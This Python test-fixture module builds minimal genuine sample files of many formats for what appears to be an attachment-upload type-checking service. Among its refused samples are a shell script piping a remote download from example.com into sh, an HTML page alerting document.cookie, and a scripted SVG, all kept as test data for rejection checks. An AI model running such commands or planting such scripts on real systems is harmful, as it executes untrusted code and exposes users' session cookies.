"""Small but genuine sample files of every allowed type (and some refused ones), built in code.

Checked once with qpdf, djpeg, dwebp and 7z when they were written, so tests show what libmagic
really reports for each type. Shared by the rules tests and the attachment service and API tests.
"""

import io
import struct
import zipfile
import zlib


def make_pdf() -> bytes:
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"]
    out, offsets = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def make_png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def make_jpeg() -> bytes:
    """A baseline 1x1 grey JPEG: one-symbol Huffman tables, entropy data 'DC 0, end of block'."""
    def segment(marker: bytes, data: bytes) -> bytes:
        return b"\xff" + marker + struct.pack(">H", len(data) + 2) + data
    return (b"\xff\xd8" + segment(b"\xe0", b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
            + segment(b"\xdb", b"\x00" + b"\x01" * 64)
            + segment(b"\xc0", b"\x08" + struct.pack(">HH", 1, 1) + b"\x01\x01\x11\x00")
            + segment(b"\xc4", b"\x00\x01" + b"\x00" * 15 + b"\x00")
            + segment(b"\xc4", b"\x10\x01" + b"\x00" * 15 + b"\x00")
            + segment(b"\xda", b"\x01\x01\x00\x00\x3f\x00") + b"\x3f" + b"\xff\xd9")


GIF = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00"
       b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")


def make_webp() -> bytes:
    """A lossless (VP8L) 1x1 image: five single-symbol prefix codes."""
    bits = count = 0

    def put(value: int, width: int) -> None:
        nonlocal bits, count
        bits, count = bits | value << count, count + width
    for value, width in [(0, 14), (0, 14), (0, 1), (0, 3), (0, 1), (0, 1), (0, 1)]:
        put(value, width)  # size 1x1, no alpha, version 0, no transform, no colour cache, no meta codes
    for symbol in (0, 0xFF, 0, 0xFF, 0):  # green, red, blue, alpha, distance
        put(1, 1), put(0, 1)
        put(*((0, 1) if symbol < 2 else (1, 1))), put(symbol, 1 if symbol < 2 else 8)
    data = b"\x2f" + bits.to_bytes((count + 7) // 8, "little")
    chunk = b"VP8L" + struct.pack("<I", len(data)) + data + b"\x00" * (len(data) % 2)
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def make_7z() -> bytes:
    """An empty 7z archive, exactly as 7-Zip writes one: the signature header only."""
    next_header = struct.pack("<QQI", 0, 0, 0)
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(next_header)) + next_header


RTF = b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\\f0\\fs24 Hello, support.\\par}\n"


def make_eml(first_header: bytes = b"From: Ada <ada@example.com>\r\n", body_type: bytes = b"text/plain",
             body: bytes = b"The printer is on fire.\r\n") -> bytes:
    return (first_header + b"To: help@example.com\r\nSubject: Printer\r\nDate: Mon, 1 Jan 2024 10:00:00 +0000\r\n"
            b"Message-ID: <1@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: " + body_type + b"\r\n\r\n" + body)


def make_zip(entries: list[tuple[str, str]], store_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries):
            method = zipfile.ZIP_STORED if store_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=method)
    return buffer.getvalue()


_OOXML = {  # main part, its content type, its body
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml",
             '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
             "<w:body><w:p><w:r><w:t>Hi</w:t></w:r></w:p></w:body></w:document>"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml",
             '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>'),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml",
             '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>'),
}


def make_ooxml(ext: str, rels_first: bool = False) -> bytes:
    """Word/Excel/PowerPoint 2007+: a ZIP with [Content_Types].xml, _rels/.rels and the main part."""
    main, content_type, body = _OOXML[ext]
    types = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/'
             'package/2006/content-types"><Default Extension="rels" '
             'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
             '<Default Extension="xml" ContentType="application/xml"/><Override PartName='
             f'"/{main}" ContentType="application/vnd.openxmlformats-officedocument.{content_type}"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
            f'.org/officeDocument/2006/relationships/officeDocument" Target="{main}"/></Relationships>')
    parts = [("[Content_Types].xml", types), ("_rels/.rels", rels)]
    return make_zip([*(parts[::-1] if rels_first else parts), (main, body)])


def make_odf(kind: str, mimetype_stored: bool = True) -> bytes:
    """OpenDocument: a ZIP whose first entry, `mimetype`, is stored uncompressed (as the spec asks)."""
    media_type = f"application/vnd.oasis.opendocument.{kind}"
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
                f'manifest:media-type="{media_type}"/></manifest:manifest>')
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:'
               'opendocument:xmlns:office:1.0" office:version="1.2"><office:body/></office:document-content>')
    return make_zip([("mimetype", media_type), ("content.xml", content), ("META-INF/manifest.xml", manifest)],
                    store_first=mimetype_stored)


def make_ole(stream: str, directory_last: bool = False) -> bytes:
    """An OLE2 compound file (Word/Excel/PowerPoint 97-2003): header, FAT, directory, one 4 KiB stream."""
    free, end, fat_sector, no_stream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    directory, first = (9, 1) if directory_last else (1, 2)  # sector numbers; the FAT is sector 0
    fat = [free] * 128
    fat[0], fat[directory] = fat_sector, end
    for i in range(8):
        fat[first + i] = first + i + 1 if i < 7 else end
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\x00" * 6 + struct.pack("<9I", 0, 1, directory, 0, 4096, end, 0, end, 0)
              + struct.pack("<I", 0) + struct.pack("<I", free) * 108)

    def entry(name: str, kind: int, child: int = no_stream, start: int = end, size: int = 0) -> bytes:
        encoded = name.encode("utf-16-le") + b"\x00\x00" if name else b""
        return (encoded.ljust(64, b"\x00") + struct.pack("<HBB", len(encoded), kind, 1)
                + struct.pack("<III", no_stream, no_stream, child) + b"\x00" * 36 + struct.pack("<IQ", start, size))
    sectors = {0: b"".join(struct.pack("<I", x) for x in fat),
               directory: entry("Root Entry", 5, child=1) + entry(stream, 2, start=first, size=4096)
               + entry("", 0) + entry("", 0)}
    sectors.update({first + i: bytes([65 + i]) * 512 for i in range(8)})
    return header + b"".join(sectors[i] for i in range(len(sectors)))


def make_exe() -> bytes:
    """The headers of a 32-bit Windows PE executable."""
    dos = b"MZ" + b"\x00" * 58 + struct.pack("<I", 0x80)
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    return dos.ljust(0x80, b"\x00") + b"PE\x00\x00" + coff + struct.pack("<H", 0x10B) + b"\x00" * 400


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 100
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>\n'
SHELL = b"#!/bin/sh\ncurl https://example.com/x | sh\n"
CSV = b"name,email,amount\nAda,ada@example.com,12.50\nBob,bob@example.com,3.00\n"
